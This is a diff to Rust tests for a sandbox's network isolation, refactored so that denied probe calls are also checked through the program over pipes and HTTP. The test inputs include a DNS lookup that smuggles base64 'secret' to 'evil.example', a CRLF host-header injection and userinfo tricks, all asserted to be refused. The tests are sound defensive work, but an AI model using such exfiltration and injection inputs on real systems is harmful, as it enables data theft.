@@ -19,11 +19,10 @@ use std::time::Duration;
 
 use ringfence_policy::Budget;
 use ringfence_sandbox::{Answer, ArtifactCache, Outcome, Output, Receipt};
+use ringfence_tests::both::Both;
 use ringfence_tests::harness::{Guest, Harness, ending};
 use ringfence_tests::network::{Canary, Peer, Script};
-use ringfence_tests::peer::Peer as Client;
-use ringfence_tests::serving::Serving;
-use ringfence_tests::session::Session;
+use ringfence_tests::serving;
 use serde_json::{Value, json};
 use tokio::io::AsyncReadExt as _;
 use tokio::net::{TcpListener, UdpSocket};
@@ -192,30 +191,36 @@ async fn without_a_grant_nothing_leaves() {
     let port = canary.address.port();
     let resolver = Script::new(&[&["127.0.0.1"]]);
     let probe = Probe::new(&resolver, &[]);
+    let mut asked = Vec::new();
     for authority in [
         "8.8.8.8",
         "c2VjcmV0.evil.example",
         &format!("127.0.0.1:{port}"),
     ] {
+        asked.push(("probe_request", get(authority)));
         let (refused, receipt) = probe.get(authority).await;
         assert_eq!(refused.unwrap_err(), DENIED, "{authority}");
         let [denied] = receipt.denied.try_into().unwrap();
         assert!(denied.contains("net=GET http://"), "{denied}");
     }
     let peer = json!({ "address": "127.0.0.1", "port": port });
-    let (refused, _) = probe.call("tcp", &json!({ "to": peer, "data": "x" })).await;
+    let tcp = json!({ "to": peer, "data": "x" });
+    let (refused, _) = probe.call("tcp", &tcp).await;
     assert_eq!(refused.unwrap_err(), "access-denied");
+    asked.push(("probe_tcp", tcp));
     for (connected, to) in [(peer.clone(), Value::Null), (Value::Null, peer.clone())] {
         let arguments = json!({ "connected": connected, "to": to, "data": "x" });
         let (refused, receipt) = probe.call("udp", &arguments).await;
         assert_eq!(refused.unwrap_err(), "access-denied", "{arguments}");
         assert!(receipt.reached.is_empty());
+        asked.push(("probe_udp", arguments));
     }
-    let (refused, _) = probe
-        .call("lookup", &json!({ "name": "c2VjcmV0.evil.example" }))
-        .await;
+    let name = json!({ "name": "c2VjcmV0.evil.example" });
+    let (refused, _) = probe.call("lookup", &name).await;
     assert_eq!(refused.unwrap_err(), "access-denied");
+    asked.push(("probe_lookup", name));
     assert_eq!(resolver.asked(), [""; 0]);
+    denied_both_ways(&[], asked).await;
     assert!(canary.is_untouched().await.unwrap());
 }
 
@@ -226,6 +231,7 @@ async fn no_spelling_of_this_machine_reaches_it() {
     let port = canary.address.port();
     let everywhere = format!("net=http://*:{port}");
     let probe = Probe::new(&Script::new(&[&["127.0.0.1"]]), &[&everywhere]);
+    let mut asked = Vec::new();
     for host in [
         "127.0.0.1",
         "127.1",
@@ -272,12 +278,14 @@ async fn no_spelling_of_this_machine_reaches_it() {
         ];
         assert!(expected.contains(&refused.as_str()), "{host}: {refused}");
         assert!(receipt.reached.is_empty(), "{host}: {:?}", receipt.reached);
+        asked.push(("probe_request", get(&format!("{host}:{port}"))));
     }
+    denied_both_ways(&[&everywhere], asked).await;
     assert!(canary.is_untouched().await.unwrap());
 }
 
 /// H36. The redirect is the guest's to see, and to ask for.
-#[tokio::test]
+#[tokio::test(flavor = "multi_thread")]
 async fn a_redirect_is_not_followed() {
     let canary = canary().await;
     for to in [
@@ -294,8 +302,20 @@ async fn a_redirect_is_not_followed() {
         assert_eq!(answer["status"], 302);
         assert!(answer["headers"].to_string().contains(&to), "{answer}");
         // Nor when the guest follows it itself.
-        let (refused, _) = probe.get(&canary.address.to_string()).await;
+        let followed = get(&canary.address.to_string());
+        let (refused, _) = probe.call("request", &followed).await;
         assert_eq!(refused.unwrap_err(), DENIED);
+        let first = get(&peer.address.to_string());
+        let calls = [
+            ("probe_request", first, false),
+            ("probe_request", followed, true),
+        ];
+        for answer in both_ways(&[&grant], &calls).await.remove(0) {
+            assert_eq!(
+                answer["result"]["structuredContent"]["result"]["status"],
+                302
+            );
+        }
     }
     assert!(canary.is_untouched().await.unwrap());
 }
@@ -360,17 +380,19 @@ async fn a_request_is_one_request_for_its_host() {
     changes.push(json!({ "authority": null }));
     changes.push(json!({ "authority": format!("{authority}@evil.example") }));
     changes.push(json!({ "authority": format!("evil.example\r\nhost: {authority}") }));
+    let mut asked = Vec::new();
     for change in changes {
-        let (refused, receipt) = probe
-            .call("request", &with(get(&authority), change.clone()))
-            .await;
+        let changed = with(get(&authority), change.clone());
+        let (refused, receipt) = probe.call("request", &changed).await;
         assert!(refused.is_err(), "{change}: {refused:?}");
         assert!(
             receipt.reached.is_empty(),
             "{change}: {:?}",
             receipt.reached
         );
+        asked.push(("probe_request", changed));
     }
+    denied_both_ways(&[&grant], asked).await;
     assert!(canary.is_untouched().await.unwrap());
 }
 
@@ -409,10 +431,12 @@ async fn a_socket_reaches_its_peer_and_no_other() {
         (format!("tcp://127.0.0.1:{port}"), 1)
     );
     let other = canary.address.port();
+    let mut asked = Vec::new();
     for (address, port) in [("127.0.0.1", other), ("127.0.0.2", port), ("::1", port)] {
         let (refused, receipt) = probe.call("tcp", &to(address, port)).await;
         assert_eq!(refused.unwrap_err(), "access-denied", "{address}:{port}");
         assert_eq!(receipt.denied.len(), 1);
+        asked.push(("probe_tcp", to(address, port)));
     }
     for (address, port) in [
         ("127.0.0.1", 0),
@@ -424,7 +448,9 @@ async fn a_socket_reaches_its_peer_and_no_other() {
         let at = json!({ "at": { "address": address, "port": port } });
         let (refused, _) = probe.call("listen", &at).await;
         assert_eq!(refused.unwrap_err(), "access-denied", "{at}");
+        asked.push(("probe_listen", at));
     }
+    denied_both_ways(&[&grants[0]], asked).await;
     assert!(canary.is_untouched().await.unwrap());
 }
 
@@ -874,14 +900,6 @@ async fn inside() {
 
 /// The same through the program, over pipes and over HTTP.
 async fn through_the_program(canaries: &[Canary]) {
-    let folder = tempfile::tempdir().unwrap();
-    let probe = Path::new(env!("CARGO_MANIFEST_DIR")).join("../guest-tools/prebuilt/probe.wasm");
-    let grants = ["net=http://*", "socket=tcp:*:80", "socket=udp:*:80"];
-    let grants = grants.iter().flat_map(|grant| ["--grant", grant]);
-    let mut arguments: Vec<OsString> = vec![probe.into(), "--state-dir".into()];
-    arguments.push(folder.path().join("state").into());
-    arguments.extend(grants.map(Into::into));
-
     let mut calls = vec![("probe_request", get(PUBLIC), false)];
     for canary in canaries {
         let address = canary.address.ip().to_string();
@@ -894,15 +912,48 @@ async fn through_the_program(canaries: &[Canary]) {
             calls.push(("probe_request", get(&mapped), true));
         }
     }
-    let mut session = Session::start(&arguments);
-    session.initialize();
-    let serving = Serving::start(&arguments);
-    let mut client = Client::stateless(serving.address()).await;
+    let grants = ["net=http://*", "socket=tcp:*:80", "socket=udp:*:80"];
+    both_ways(&grants, &calls).await;
+}
+
+/// Makes calls of the probe through the program, over pipes and over HTTP: each says whether it must
+/// fail. Gives the answers to each.
+async fn both_ways(grants: &[&str], calls: &[(&str, Value, bool)]) -> Vec<[Value; 2]> {
+    let folder = tempfile::tempdir().unwrap();
+    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("network-program");
+    let mut arguments: Vec<OsString> = vec![serving::prebuilt("probe").into()];
+    for (option, value) in [
+        ("--state-dir", folder.path().join("state")),
+        ("--cache-dir", cache),
+    ] {
+        arguments.push(option.into());
+        arguments.push(value.into());
+    }
+    for grant in grants {
+        arguments.push("--grant".into());
+        arguments.push(grant.into());
+    }
+    let mut both = Both::start(&arguments).await;
+    let mut heard = Vec::new();
     for (tool, given, denied) in calls {
-        let piped = session.call(tool, &given);
-        let posted = client.call(tool, given.clone()).await;
-        for answer in [&piped, posted.answer()] {
-            assert_eq!(answer["result"]["isError"], denied, "{given}: {answer}");
+        let answers = both.call(tool, given.clone()).await;
+        for answer in &answers {
+            assert_eq!(answer["result"]["isError"], *denied, "{given}: {answer}");
+        }
+        heard.push(answers);
+    }
+    heard
+}
+
+/// The same through the program, where nothing of it may be done.
+async fn denied_both_ways(grants: &[&str], calls: Vec<(&str, Value)>) {
+    let calls = calls.into_iter().map(|(tool, given)| (tool, given, true));
+    for answers in both_ways(grants, &calls.collect::<Vec<_>>()).await {
+        for answer in answers {
+            let receipt = &answer["result"]["_meta"]["ringfence/receipt"];
+            let reached = receipt["reached"].as_array();
+            assert!(receipt.is_object(), "{answer}");
+            assert!(reached.is_none_or(Vec::is_empty), "{answer}");
         }
     }
 }
